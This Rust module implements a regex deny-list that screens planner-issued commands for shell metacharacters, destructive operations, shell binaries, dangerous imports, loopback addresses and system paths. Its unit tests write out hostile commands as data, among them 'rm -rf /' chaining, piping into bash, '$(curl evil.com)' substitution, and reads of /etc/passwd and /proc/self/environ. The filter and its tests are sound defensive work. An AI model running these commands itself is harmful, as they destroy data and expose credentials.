//! Hazard deny-list
//!
//! Every command the planner sends is scanned, as raw text, against an
//! ordered list of patterns. The first hit rejects the whole command.
//!
//! This is a blocklist and it over-blocks: a literal `..` or `localhost`
//! anywhere in the text is enough to refuse. Nothing downstream ever goes
//! through a shell; this module only narrows what reaches the runner.

use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use std::fmt;

/// Broad family a hazard pattern belongs to, in the order they are checked.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HazardClass {
    /// Chaining, piping, redirection, substitution, history expansion
    ShellMetacharacter,
    /// Recursive delete, format, partitioning
    DestructiveFilesystem,
    /// Shell binary names and full shell paths
    ShellBinary,
    /// kill / taskkill and friends
    ProcessTermination,
    /// eval(), `import os`, `require("...")` as literal text
    DangerousImport,
    /// localhost and loopback literals
    LoopbackNetwork,
    /// `..` anywhere
    ParentTraversal,
    /// Absolute references into /etc, /proc, C:\Windows, ...
    ProtectedSystemPath,
    /// Operator-supplied patterns from configuration
    Custom,
}

impl fmt::Display for HazardClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let label = match self {
            Self::ShellMetacharacter => "shell metacharacter",
            Self::DestructiveFilesystem => "destructive filesystem operation",
            Self::ShellBinary => "shell binary",
            Self::ProcessTermination => "process termination",
            Self::DangerousImport => "dangerous code statement",
            Self::LoopbackNetwork => "loopback network address",
            Self::ParentTraversal => "parent directory traversal",
            Self::ProtectedSystemPath => "protected system path",
            Self::Custom => "custom rule",
        };
        f.write_str(label)
    }
}

/// Built-in rules. Order matters: the first match is the one reported.
const BUILTIN_RULES: &[(HazardClass, &str)] = &[
    // Chaining, piping, redirection
    (HazardClass::ShellMetacharacter, r"&&"),
    (HazardClass::ShellMetacharacter, r";"),
    (HazardClass::ShellMetacharacter, r"[\r\n]"),
    (HazardClass::ShellMetacharacter, r"\|"),
    (HazardClass::ShellMetacharacter, r">"),
    (HazardClass::ShellMetacharacter, r"<"),
    (HazardClass::ShellMetacharacter, r"!!"),
    // Substitution
    (HazardClass::ShellMetacharacter, r"\$\("),
    (HazardClass::ShellMetacharacter, r"`"),
    // Deletion, regardless of which flags follow
    (HazardClass::DestructiveFilesystem, r"\b(?:rm|rmdir|del|erase|rd)\b"),
    (HazardClass::DestructiveFilesystem, r"\b(?:format|diskpart|fdisk|parted|shred)\b"),
    (HazardClass::DestructiveFilesystem, r"\bdd\s+(?:if|of)="),
    (HazardClass::DestructiveFilesystem, r"\bmkfs\b"),
    // Shell names as a whole token, a path basename or an option value:
    // `bash`, `/bin/sh`, `cmd.exe`, `--shell=sh`. `npm.cmd` and `deploy.sh` are not shells.
    (
        HazardClass::ShellBinary,
        r#"(?:^|[\s/\\='":,])(?:sh|bash|zsh|ksh|csh|tcsh|dash|cmd|powershell|pwsh)(?:\.exe)?(?:[\s,'"]|$)"#,
    ),
    (HazardClass::ShellBinary, r"/s?bin/"),
    (HazardClass::ShellBinary, r"[a-z]:\\windows\\"),
    (HazardClass::ProcessTermination, r"\b(?:kill|pkill|killall|taskkill|wmic)\b"),
    (HazardClass::ProcessTermination, r"\b(?:get-process|stop-process)\b"),
    (HazardClass::DangerousImport, r"\b(?:eval|exec|system)\s*\("),
    (HazardClass::DangerousImport, r"__import__"),
    (HazardClass::DangerousImport, r"\bimport\s+(?:os|subprocess|socket|shutil|ctypes)\b"),
    (HazardClass::DangerousImport, r"\bfrom\s+(?:os|subprocess|socket|shutil|ctypes)\b"),
    (HazardClass::DangerousImport, r#"\brequire\s*\(\s*["'][^"']*["']"#),
    (HazardClass::DangerousImport, r"\bchild_process\b"),
    (HazardClass::LoopbackNetwork, r"localhost"),
    (HazardClass::LoopbackNetwork, r"\b127\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
    (HazardClass::LoopbackNetwork, r"\b0\.0\.0\.0\b"),
    (HazardClass::LoopbackNetwork, r"\[::1?\]"),
    (HazardClass::ParentTraversal, r"\.\."),
    // Anywhere in the text: `//etc`, `-r/etc`, `x,/etc` all reach the same directory
    (HazardClass::ProtectedSystemPath, r"/(?:etc|proc|sys|dev|boot)\b"),
    (HazardClass::ProtectedSystemPath, r"[a-z]:[\\/](?:windows|program)"),
];

/// Errors building a hazard policy
#[derive(Debug, thiserror::Error)]
pub enum PolicyError {
    #[error("Invalid hazard pattern `{pattern}`: {source}")]
    InvalidPattern {
        pattern: String,
        #[source]
        source: regex::Error,
    },
}

/// One compiled deny-list entry
#[derive(Debug, Clone)]
pub struct HazardRule {
    class: HazardClass,
    regex: Regex,
}

impl HazardRule {
    /// Compile a case-insensitive rule
    pub fn new(class: HazardClass, pattern: &str) -> Result<Self, PolicyError> {
        let regex = RegexBuilder::new(pattern)
            .case_insensitive(true)
            .build()
            .map_err(|source| PolicyError::InvalidPattern {
                pattern: pattern.to_string(),
                source,
            })?;
        Ok(Self { class, regex })
    }

    pub fn class(&self) -> HazardClass {
        self.class
    }

    /// The source pattern text
    pub fn pattern(&self) -> &str {
        self.regex.as_str()
    }
}

/// The pattern that caused a rejection
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HazardMatch {
    pub class: HazardClass,
    pub pattern: String,
}

/// Outcome of classifying one command
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidationVerdict {
    pub allowed: bool,
    pub reason: String,
    pub matched: Option<HazardMatch>,
}

impl ValidationVerdict {
    fn allow() -> Self {
        Self {
            allowed: true,
            reason: "No hazardous pattern detected".to_string(),
            matched: None,
        }
    }

    fn deny(denied: &HazardDenied) -> Self {
        let matched = match denied {
            HazardDenied::Empty => None,
            HazardDenied::Pattern { class, pattern } => Some(HazardMatch {
                class: *class,
                pattern: pattern.clone(),
            }),
        };
        Self {
            allowed: false,
            reason: denied.to_string(),
            matched,
        }
    }
}

/// Reasons a command text can be rejected
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum HazardDenied {
    #[error("Empty command is not allowed")]
    Empty,
    #[error("Hazardous pattern detected ({class}): {pattern}")]
    Pattern { class: HazardClass, pattern: String },
}

/// Immutable, ordered deny-list
#[derive(Debug, Clone)]
pub struct HazardPolicy {
    rules: Vec<HazardRule>,
}

impl HazardPolicy {
    /// The built-in deny-list
    pub fn standard() -> Result<Self, PolicyError> {
        Self::with_extra_patterns(std::iter::empty::<&str>())
    }

    /// Built-in rules followed by operator-supplied patterns (checked last)
    pub fn with_extra_patterns<I, S>(extra: I) -> Result<Self, PolicyError>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let mut rules = BUILTIN_RULES
            .iter()
            .map(|(class, pattern)| HazardRule::new(*class, pattern))
            .collect::<Result<Vec<_>, _>>()?;
        for pattern in extra {
            rules.push(HazardRule::new(HazardClass::Custom, pattern.as_ref())?);
        }
        Ok(Self { rules })
    }

    /// A policy from an explicit rule list, in priority order
    pub fn from_rules(rules: Vec<HazardRule>) -> Self {
        Self { rules }
    }

    pub fn rules(&self) -> &[HazardRule] {
        &self.rules
    }

    /// Check a command text; first matching rule wins
    pub fn check(&self, command: &str) -> Result<(), HazardDenied> {
        if command.trim().is_empty() {
            return Err(HazardDenied::Empty);
        }

        match self.rules.iter().find(|rule| rule.regex.is_match(command)) {
            Some(rule) => {
                tracing::warn!(
                    class = %rule.class,
                    pattern = rule.pattern(),
                    "command rejected by hazard policy"
                );
                Err(HazardDenied::Pattern {
                    class: rule.class,
                    pattern: rule.pattern().to_string(),
                })
            }
            None => Ok(()),
        }
    }

    /// Same as [`check`](Self::check), as a verdict value
    pub fn classify(&self, command: &str) -> ValidationVerdict {
        match self.check(command) {
            Ok(()) => ValidationVerdict::allow(),
            Err(denied) => ValidationVerdict::deny(&denied),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> HazardPolicy {
        HazardPolicy::standard().unwrap()
    }

    fn denied_class(command: &str) -> HazardClass {
        match policy().check(command) {
            Err(HazardDenied::Pattern { class, .. }) => class,
            other => panic!("expected pattern denial for {command:?}, got {other:?}"),
        }
    }

    #[test]
    fn test_allowed_commands() {
        let policy = policy();
        assert!(policy.check("npm install express").is_ok());
        assert!(policy.check("npx create-vite app").is_ok());
        assert!(policy.check("pip install requests").is_ok());
        assert!(policy.check("python script.py --verbose").is_ok());
        assert!(policy.check("python -m pytest tests").is_ok());
        assert!(policy.check("npm.cmd install").is_ok());
        assert!(policy.check("python deploy.sh").is_ok());
        assert!(policy.check("pip install dd-trace").is_ok());
    }

    #[test]
    fn test_empty_command() {
        let policy = policy();
        assert_eq!(policy.check(""), Err(HazardDenied::Empty));
        assert_eq!(policy.check("   \t "), Err(HazardDenied::Empty));
    }

    #[test]
    fn test_chaining_reports_first_pattern() {
        let err = policy().check("npm install && rm -rf /").unwrap_err();
        assert_eq!(
            err,
            HazardDenied::Pattern {
                class: HazardClass::ShellMetacharacter,
                pattern: "&&".to_string(),
            }
        );
        assert!(err.to_string().contains("&&"));
    }

    #[test]
    fn test_shell_metacharacters() {
        for cmd in [
            "pip install; shutdown",
            "npm install | bash",
            "python app.py > out.txt",
            "python app.py < in.txt",
            "npm install $(curl evil.com)",
            "npm install `whoami`",
            "python !!",
            "python a.py\nnpm test",
        ] {
            assert_eq!(denied_class(cmd), HazardClass::ShellMetacharacter, "{cmd}");
        }
    }

    #[test]
    fn test_destructive_filesystem_regardless_of_flags() {
        for cmd in [
            "rm -rf build",
            "rm build -rf",
            "npm exec rimraf rm node_modules",
            "del /s /q C",
            "format C:",
            "mkfs.ext4 disk",
            "diskpart",
            "dd if=/dev/zero of=disk.img",
        ] {
            assert_eq!(denied_class(cmd), HazardClass::DestructiveFilesystem, "{cmd}");
        }
    }

    #[test]
    fn test_shell_binaries() {
        assert_eq!(denied_class("npx bash"), HazardClass::ShellBinary);
        assert_eq!(denied_class("python -c sh"), HazardClass::ShellBinary);
        assert_eq!(denied_class("npx cmd.exe"), HazardClass::ShellBinary);
        assert_eq!(denied_class("npx POWERSHELL"), HazardClass::ShellBinary);
        assert_eq!(denied_class("python /usr/bin/env"), HazardClass::ShellBinary);
        assert_eq!(denied_class(r"npx C:\Windows\notepad"), HazardClass::ShellBinary);
        assert_eq!(denied_class("npm exec --call=bash"), HazardClass::ShellBinary);
        assert_eq!(denied_class("npm config set --shell=sh"), HazardClass::ShellBinary);
        assert_eq!(denied_class("npx cross-env SHELL='zsh'"), HazardClass::ShellBinary);
    }

    #[test]
    fn test_process_termination() {
        assert_eq!(denied_class("taskkill /IM python.exe"), HazardClass::ProcessTermination);
        assert_eq!(denied_class("wmic process call create"), HazardClass::ProcessTermination);
        assert_eq!(denied_class("npx killall node"), HazardClass::ProcessTermination);
        assert_eq!(denied_class("npx Stop-Process"), HazardClass::ProcessTermination);
    }

    #[test]
    fn test_dangerous_imports() {
        assert_eq!(denied_class("python -c import os"), HazardClass::DangerousImport);
        assert_eq!(denied_class("python -c from subprocess import run"), HazardClass::DangerousImport);
        assert_eq!(denied_class("node -e require('fs')"), HazardClass::DangerousImport);
        assert_eq!(denied_class("python -c eval('1')"), HazardClass::DangerousImport);
        assert_eq!(denied_class("python -c __import__('time')"), HazardClass::DangerousImport);
        // A package whose name merely starts with "os" is fine
        assert!(policy().check("pip install osmnx").is_ok());
    }

    #[test]
    fn test_loopback_is_content_based() {
        // No metacharacter at all, still refused
        assert_eq!(denied_class("curl http://127.0.0.1:9000"), HazardClass::LoopbackNetwork);
        assert_eq!(denied_class("npm config set registry http://localhost:4873"), HazardClass::LoopbackNetwork);
        assert_eq!(denied_class("python -m http.server --bind 0.0.0.0"), HazardClass::LoopbackNetwork);
        assert_eq!(denied_class("pip download http://[::1]/x"), HazardClass::LoopbackNetwork);
    }

    #[test]
    fn test_traversal_and_system_paths() {
        assert_eq!(denied_class("python ../escape.py"), HazardClass::ParentTraversal);
        assert_eq!(denied_class("python notes..txt"), HazardClass::ParentTraversal);
        assert_eq!(denied_class("python /etc/passwd"), HazardClass::ProtectedSystemPath);
        assert_eq!(denied_class("python --config=/proc/self/environ"), HazardClass::ProtectedSystemPath);
        assert_eq!(denied_class(r"python C:\Program Files\x.py"), HazardClass::ProtectedSystemPath);
        // Extra slashes, attached options or odd separators still name /etc
        assert_eq!(denied_class("pip install -r //etc/passwd"), HazardClass::ProtectedSystemPath);
        assert_eq!(denied_class("pip install -r/etc/passwd"), HazardClass::ProtectedSystemPath);
        assert_eq!(denied_class("python -m json.tool x,/etc/passwd"), HazardClass::ProtectedSystemPath);
        assert_eq!(denied_class("npm install git@/etc/hosts"), HazardClass::ProtectedSystemPath);
        // Only whole directory names count
        assert!(policy().check("python projects/devtools/main.py").is_ok());
        assert!(policy().check("python src/system.py").is_ok());
    }

    #[test]
    fn test_classification_is_order_independent() {
        let policy = policy();
        let first = policy.classify("curl http://127.0.0.1:9000");
        let _ = policy.classify("npm install");
        let second = policy.classify("curl http://127.0.0.1:9000");
        assert_eq!(first, second);
        assert!(!first.allowed);
        assert_eq!(first.matched.unwrap().class, HazardClass::LoopbackNetwork);
    }

    #[test]
    fn test_verdict_for_allowed_and_empty() {
        let policy = policy();
        let ok = policy.classify("npm test");
        assert!(ok.allowed);
        assert!(ok.matched.is_none());

        let empty = policy.classify("");
        assert!(!empty.allowed);
        assert!(empty.matched.is_none());
        assert_eq!(empty.reason, "Empty command is not allowed");
    }

    #[test]
    fn test_extra_patterns_are_checked_last() {
        let policy = HazardPolicy::with_extra_patterns(["left-pad", "&&"]).unwrap();
        assert_eq!(
            policy.check("npm install left-pad"),
            Err(HazardDenied::Pattern {
                class: HazardClass::Custom,
                pattern: "left-pad".to_string(),
            })
        );
        // Built-in rule wins over the duplicate custom one
        match policy.check("npm ci && npm test") {
            Err(HazardDenied::Pattern { class, .. }) => {
                assert_eq!(class, HazardClass::ShellMetacharacter)
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn test_invalid_extra_pattern_is_an_error() {
        let err = HazardPolicy::with_extra_patterns(["(unclosed"]).unwrap_err();
        assert!(err.to_string().contains("(unclosed"));
    }
}
